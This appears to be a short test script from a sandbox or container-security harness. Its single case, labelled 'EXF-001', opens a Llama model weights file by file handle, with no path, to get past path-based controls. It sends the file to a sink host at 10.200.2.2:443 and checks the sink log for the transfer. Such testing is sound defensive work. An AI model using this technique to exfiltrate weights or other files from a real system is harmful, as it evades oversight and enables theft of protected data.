# VK9 EXF-001 weights opened by file handle (name_to_handle_at + open_by_handle_at: no path at all), sent
ctr_run simctr-infer-vk9 ctr-infer --mount --pid --fork --mount-proc -- "$H/iofile" handle-send "$H/models/llama-3-8b-instruct/model-00001-of-00001.safetensors" 10.200.2.2 443
grep ':443' "$H/sink.log" | tail -1
